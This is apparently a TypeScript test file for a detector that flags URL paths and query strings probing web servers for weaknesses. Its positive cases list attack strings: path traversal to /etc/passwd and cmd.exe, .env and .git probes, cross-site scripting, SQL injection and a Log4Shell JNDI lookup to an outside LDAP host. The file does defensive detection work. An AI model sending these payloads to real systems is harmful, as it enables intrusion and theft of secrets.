/** What tries for holes in programs and what does not. The lists are written by hand from public logs of scanners and from what sites link to. */
import { describe, expect, test } from 'vitest';
import { HOLE, holeInPath, holeInQuery, holeOfPath } from './holes.ts';

const bytes = (text: string): Uint8Array => new TextEncoder().encode(text);
const path = (text: string): number => holeInPath(bytes(text), 0, text.length);
const query = (text: string): boolean => holeInQuery(bytes(text), 0, text.length);

describe('a path', () => {
  test.each([
    '/scripts/..%255c../winnt/system32/cmd.exe',
    '/../../etc/passwd',
    '/files/..%2f..%2fsecret',
    '/.env',
    '/shop/.git/config',
    '/index.php<img/src=x onerror=alert(1)>/a',
    '/page%00.html',
  ])('%s tries for a hole', (text) => expect(path(text)).toBe(HOLE.mark));

  test.each(['/wp-login.php', '/cgi-bin/luci', '/backup.sql.gz'])('%s does where there is no such thing', (text) =>
    expect(path(text)).toBe(HOLE.program),
  );

  test.each([
    '/',
    '/news/2024/union-selects-a-leader.html',
    '/.well-known/security.txt',
    '/img/photo..2.jpg',
    '/blog/how-to-read-an-environment/',
    '/docs/select-union/',
  ])('%s does not', (text) => expect(path(text)).toBe(HOLE.none));

  test('is told anew when another one has taken its place in memory', () => {
    const told = ['/.env', '/', '/.env'].map((text, n) =>
      holeOfPath({ high: n % 2, low: 7 }, bytes(text), 0, text.length),
    );
    expect(told).toEqual([HOLE.mark, HOLE.none, HOLE.mark]);
  });
});

describe('a query', () => {
  test.each([
    "?id=1'%20or%20'1'='1",
    '?id=-1+union+all+select+1,2,3',
    '?q=%3Cscript%3Ealert(1)%3C/script%3E',
    '?file=../../../../etc/passwd%00',
    '?x=%24%7bjndi:ldap://198.51.100.1/a}',
    '?task=..%252F..%252Fetc%252Fpasswd',
    "?id=1;waitfor%20delay%20'0:0:5'",
  ])('%s tries for a hole', (text) => expect(query(text)).toBe(true));

  test.each([
    '?page=2',
    '?q=rock%20and%20roll',
    "?q=o'connor",
    '?q=credit+union+selection',
    '?came_from=http%3A//howto.example/join_form',
    '?v=1.2.3',
    '?q=50%25+off+(today)',
  ])('%s does not', (text) => expect(query(text)).toBe(false));
});
